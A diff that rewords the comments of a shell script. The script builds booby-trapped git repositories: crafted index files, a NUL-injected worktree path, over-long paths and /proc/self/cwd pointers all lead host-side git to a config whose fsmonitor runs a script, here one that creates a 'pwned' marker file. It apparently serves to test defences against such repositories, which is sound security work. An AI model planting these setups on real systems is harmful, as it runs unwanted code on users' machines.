@@ -1,14 +1,14 @@
-# Plants a repository with settings of ours where git on the host comes to it on a detour. $1 says
-# how.
+# Plants a repository with settings of the attacker that git on the host enters on an indirect path.
+# $1 names the attack.
 evil=$PWD/evil.sh
 printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
 monitor() { printf '[core]\n\tfsmonitor = %s\n' "$evil"; }
-# A repository in the folder $1, with one commit.
+# Makes a repository with one commit in the folder $1.
 made() { git init -q "$1" && git -C "$1" commit -q --allow-empty -m one; }
 evil() { made "$1" && monitor >>"$1/.git/config"; }
 # Names the folder $1 in the index as a submodule.
 named() { git update-index --add --cacheinfo "160000,$(git -C "$1" rev-parse HEAD),$1"; }
-# Makes the index $1 one of version 2 or 3 with these entries alone: octal mode, id, name.
+# Writes the index $1 in version 3 with only these entries: octal mode, id, name.
 index() {
     python3 - "$@" <<'END'
 import hashlib, struct, sys
@@ -27,8 +27,8 @@ if any(mode == '40000' for _, mode, _ in entries):
 open(path, 'wb').write(text + hashlib.sha1(text).digest())
 END
 }
-# Makes .git/index one of version 4 that git reads by threads, and in which only git finds the
-# folder `new`. $1 says how.
+# Writes .git/index in version 4 so that only a git that reads it by several threads finds the
+# folder `new`. $1 names the trick.
 threads() {
     python3 - "$1" "$(git -C new rev-parse HEAD)" <<'END'
 import hashlib, struct, sys
@@ -38,7 +38,7 @@ def entry(mode, id, length, removed, rest):
 def extension(name, content):
     return name + struct.pack('>I', len(content)) + content
 def tables(start, blocks):
-    """The table of blocks, and the end of the entries, at `start` in the file."""
+    """The two extensions with the table of blocks and with the end of the entries, `start`."""
     table = extension(b'IEOT', struct.pack('>I', 1) + b''.join(struct.pack('>II', *block) for block in blocks))
     return table + extension(b'EOIE', struct.pack('>I', start) + hashlib.sha1(table[:8]).digest())
 names = [b'a%03d' % number for number in range(7)] + [b'b' * 4200 if way == 'names' else b'b', b'']
@@ -47,8 +47,8 @@ starts, last = [], b''
 for number, name in enumerate(names):
     starts.append(len(text))
     if not name:
-        # A reader that knows the previous name reads one of 4,203 bytes. The length of both is
-        # 4,095 or more.
+        # A reader that knows the previous name reads a name of 4,203 bytes here. The field for
+        # the length says 4,095 or more for both.
         text += entry(0o160000, id, 0xfff, 0, b'new') if way == 'names' else entry(0o100644, file, 2, 0, b'c')
     else:
         text += entry(0o100644, file, min(len(name), 0xfff), len(last), name)
@@ -56,7 +56,7 @@ for number, name in enumerate(names):
 if way == 'names':
     text += tables(len(text), [(starts[0], len(names) - 1), (starts[-1], 1)])
 else:
-    # The tables, and the last entry, stand in an extension that nobody knows.
+    # The tables and the last entry are in an extension that no program knows.
     hidden = len(text) + 8
     submodule = entry(0o160000, id, 3, 0, b'new')
     content = submodule + tables(hidden + len(submodule), [(starts[0], len(names) - 1), (hidden, 1)])
@@ -64,15 +64,15 @@ else:
 open('.git/index', 'wb').write(text + hashlib.sha1(text).digest())
 END
 }
-# Moves the repository $1 into a folder, and names it. Only a relative path to its `.git` is short
-# enough for one system call.
+# Moves the repository $1 into a deep folder, and names that folder in the index. Only a relative
+# path to its `.git` is short enough for one system call.
 long() {
     id=$(git -C "$1" rev-parse HEAD) && name=$(python3 - "$1" <<'END'
 import os, sys
 left = 4093 - len(os.getcwd())
 names = ['d' * 200] * (left // 201 - 1)
 rest = left - len('/'.join(names)) - 2
-# A name has at most 255 bytes.
+# The name of a file has at most 255 bytes.
 names += ['e' * (rest // 2), 'f' * (rest - rest // 2 - 1)]
 top = os.open('.', os.O_RDONLY)
 for name in names:
@@ -97,7 +97,7 @@ work-tree)
     git update-index --add --cacheinfo "160000,$(git -C new rev-parse HEAD),new"
     ;;
 work-tree-nul)
-    # Of a path, git reads what comes before the NUL.
+    # git reads only the part of the path before the NUL.
     mkdir other && evil other/deeper && made new && named new
     index new/.git/index 160000 "$(git -C other/deeper rev-parse HEAD)" deeper
     printf '[core]\n\tworktree = ../../other\0/../new\n' >>new/.git/config
@@ -130,7 +130,7 @@ bare-commondir)
     printf '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n' >other/config && monitor >>other/config
     printf '[core]\n\tbare = false\n\tworktree = %s\n' "$PWD" >config.worktree
     ;;
-# In the root, the pointer leads to a clean repository, and in the folder to another one.
+# The pointer leads to a clean repository if git works in the root, and to another if in `sub`.
 by-proc)
     made clean && mv clean/.git g && made sub && mv sub/.git sub/g && monitor >>sub/g/config
     printf 'gitdir: /proc/self/cwd/g\n' >sub/.git
